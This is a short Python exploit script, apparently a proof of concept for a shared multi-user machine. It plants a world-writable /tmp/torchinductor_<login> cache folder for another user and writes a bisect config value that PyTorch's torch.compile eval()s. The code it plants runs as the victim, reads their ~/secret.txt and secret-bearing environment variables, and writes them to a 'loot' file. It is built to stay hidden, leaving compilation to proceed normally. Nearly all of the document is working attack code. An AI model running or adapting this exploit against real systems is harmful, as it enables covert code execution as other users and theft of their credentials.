"""Run as the attacker, uid 65000, before the TA's first torch use (e.g. after a reboot; /tmp is every user's).

torch names its inductor cache /tmp/torchinductor_<login> (getpass.getuser(): $LOGNAME/$USER first) and uses that
folder whoever owns it. torch.compile(model), even without calling the model, builds _TorchCompileInductorWrapper,
which reads <cache>/bisect/bisect_status.txt for a backend and subsystem and eval()s every value of
<cache>/bisect/<backend>/<subsystem>_config.txt. notebooks/02_ddp.ipynb calls torch.compile(nn.Linear(3, 2)).
"""
import os, sys
login = sys.argv[1] if len(sys.argv) > 1 else "ta54"
d = f"/tmp/torchinductor_{login}"
os.makedirs(f"{d}/bisect/inductor", exist_ok=True)
os.chmod(d, 0o777)  # the TA's torch may write here too
with open(f"{d}/bisect/bisect_status.txt", "w") as fh:
    fh.write("backend=inductor\nsubsystem=a54\n")
payload = f'''
import os, pwd
try:
    secret = open(os.path.expanduser("~/secret.txt")).read().strip()
except Exception as e:
    secret = repr(e)
env = {{k: v for k, v in os.environ.items() if "SECRET" in k or "URL" in k}}
fd = os.open("{d}/loot-%d.txt" % os.getpid(), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
os.write(fd, ("ran as uid=%d (%s) pid=%d cwd=%s\\nTA secret file: %s\\nTA env: %r\\n" % (
    os.getuid(), pwd.getpwuid(os.getuid()).pw_name, os.getpid(), os.getcwd(), secret, env)).encode())
os.close(fd)
'''
# a real inductor option, left at its default (False), so the TA's torch.compile goes on as if nothing happened
with open(f"{d}/bisect/inductor/a54_config.txt", "w") as fh:
    fh.write("debug=(exec(" + repr(payload) + ") or False)\n")
os.system(f"ls -laR {d}")
